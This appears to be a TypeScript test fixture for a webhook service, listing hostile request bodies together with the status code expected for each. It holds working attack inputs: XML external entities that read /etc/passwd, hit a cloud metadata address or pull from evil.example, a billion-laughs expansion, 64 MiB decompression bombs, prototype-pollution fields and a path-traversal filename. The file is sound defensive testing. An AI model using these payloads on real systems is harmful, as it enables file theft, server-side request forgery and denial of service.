// Hostile bodies in other forms than JSON, and compressed ones.
import { brotliCompressSync, constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { mediaTypeOf } from '../../src/domain/body/media-type.ts'
import type { Hostile } from './hostile-inputs.ts'

const deep = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)
const event = (id: string) => JSON.stringify({ id, amount: 1 })
const good = event('good')

const FORM = 'application/x-www-form-urlencoded'
const XML = 'application/xml'
const MULTIPART = 'multipart/form-data; boundary=x'
const part = (name: string, value = '1', more = '') =>
  `--x\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')

/** To the workflow that takes this form. */
const sent = (what: string, type: string, body: string, status: number): Hostile => ({
  what,
  path: `/hooks/hostile-${mediaTypeOf(type).form}`,
  headers: { 'content-type': type },
  body,
  status,
})

/** Forms that are not what their type says, or are made to cost more than they are worth. */
const forms: Hostile[] = [
  ['XML that declares an entity', XML, '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'],
  ['XML with a document type alone', XML, '<!DOCTYPE a><a>1</a>'],
  ['XML that asks for a file', XML, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['XML that asks for an address', XML, '<!DOCTYPE a SYSTEM "http://169.254.169.254/a.dtd"><a>1</a>'],
  ['a billion laughs', XML, `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`],
  [
    'XML with a parameter entity',
    XML,
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a>1</a>',
  ],
  ['XML with an entity that nobody declared', XML, '<a>&nbsp;</a>'],
  ['XML with a NUL by its number', XML, '<a>&#0;</a>'],
  ['XML with an attribute twice', XML, '<a b="1" b="2"/>'],
  ['XML with two roots', XML, '<a>1</a><b>2</b>'],
  ['XML 65 deep', XML, deep(65, '<a>', '</a>')],
  ['XML 100,000 deep', XML, '<a>'.repeat(100_000)],
  ['XML of 200,000 elements', XML, `<a>${'<b/>'.repeat(200_000)}</a>`],
  [
    'XML of 100,000 attributes',
    XML,
    `<a ${Array.from({ length: 100_000 }, (_, n) => `b${n}=""`).join(' ')}/>`,
  ],
  ['comments that never end', XML, '<a>' + '<!--'.repeat(200_000)],
  ['XML with a name of 1 MiB', XML, `<${'a'.repeat(1024 * 1024 - 1)}`],
  ['multipart without a boundary', 'multipart/form-data', part('id')],
  [
    'multipart with a boundary of 1,000 characters',
    `multipart/form-data; boundary=${'x'.repeat(1000)}`,
    part('id'),
  ],
  ['multipart that is cut off', MULTIPART, part('id')],
  ['multipart of 1,001 parts', MULTIPART, `${part('id').repeat(1001)}--x--`],
  ['multipart with a header of 100 KiB', MULTIPART, `${part('id', '1', 'x'.repeat(100 * 1024))}--x--`],
  ['multipart with a part without a name', MULTIPART, '--x\r\nContent-Type: text/plain\r\n\r\n1\r\n--x--'],
  ['a form of 500,000 fields', FORM, 'a&'.repeat(500_000)],
  ['a form that is no UTF-8', FORM, 'id=%ff%fe'],
  ['a payload that is half JSON', FORM, 'payload=%7B%22id%22'],
  ['a payload 65 deep', FORM, `payload=${deep(65, '[', ']')}`],
  ['JSON lines with one that is none', 'application/x-ndjson', '{"id":"x"}\n{"id"'],
  ['JSON lines of 500,000', 'application/x-ndjson', '1\n'.repeat(500_000)],
  ['JSON lines with one 65 deep', 'application/x-ndjson', `1\n${deep(65, '[', ']')}`],
].map(([what = '', type = '', body = '']) => sent(what, type, body, 400))

const ZEROS = Buffer.alloc(64 * 1024 * 1024)
const gzipped = gzipSync(event('gz'))
/** Signed bodies that unpack to more than anybody may send, or to nothing. */
const packed: Hostile[] = [
  ['a gzip of 64 MiB', 'gzip', gzipSync(ZEROS), 413],
  ['a deflate of 64 MiB', 'deflate', deflateSync(ZEROS), 413],
  [
    'a brotli of 64 MiB',
    'br',
    brotliCompressSync(ZEROS, { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } }),
    415,
  ],
  [
    'many gzips in a row of 64 MiB',
    'gzip',
    Buffer.concat(Array.from({ length: 64 }, () => gzipSync(ZEROS.subarray(0, 1024 * 1024)))),
    413,
  ],
  ['a gzip that is cut off', 'gzip', gzipped.subarray(0, -4), 400],
  ['a gzip whose sum is wrong', 'gzip', Buffer.concat([gzipped.subarray(0, -8), Buffer.alloc(8)]), 400],
  ['JSON that claims to be gzip', 'gzip', Buffer.from(good), 400],
  ['a gzip within a gzip', 'gzip', gzipSync(gzipped), 400],
  ['two compressions', 'gzip, gzip', gzipSync(gzipped), 415],
  ['a compression of its own', '__proto__', Buffer.from(good), 415],
  ['a deflate without the header and sum of zlib', 'deflate', deflateRawSync(good), 400],
  ['no bytes that claim to be brotli', 'br', Buffer.alloc(0), 415],
].map(([what, encoding, body, status]) => ({
  what: String(what),
  headers: { 'content-encoding': String(encoding) },
  body: body as Buffer,
  status: Number(status),
}))

/** Other forms, accepted as what they are. */
const acceptedForms: Hostile[] = [
  ['__proto__ as a field of a form', FORM, '__proto__=isAdmin&__proto__=1&id=w1&amount=1'],
  ['__proto__ in a payload', FORM, 'payload={"__proto__":{"isAdmin":true}}&id=w2'],
  ['brackets that name a prototype', FORM, '__proto__[isAdmin]=1&constructor[prototype][isAdmin]=1&id=w3'],
  ['__proto__ as an element', XML, '<id><__proto__><isAdmin>1</isAdmin></__proto__></id>'],
  ['__proto__ as a part', MULTIPART, `${part('__proto__')}${part('id', 'w5')}--x--`],
  ['XML of 900,000 carriage returns', XML, `<id>${'\r'.repeat(900_000)}w10</id>`],
  ['a file called like a path', MULTIPART, `${part('id', 'w6', '; filename="../../etc/passwd"')}--x--`],
  ['a NUL in a form', FORM, 'id=w7%00&amount=1&text=%00'],
  ['a mention in a form', FORM, 'id=w8&amount=1&text=%3C!channel%3E'],
  ['JSON as text', 'text/plain', event('w9')],
  ['no text', 'text/plain', ' '],
].map(([what = '', type = '', body = '']) => sent(what, type, body, 202))

export const hostileForms: Hostile[] = [...forms, ...packed, ...acceptedForms]
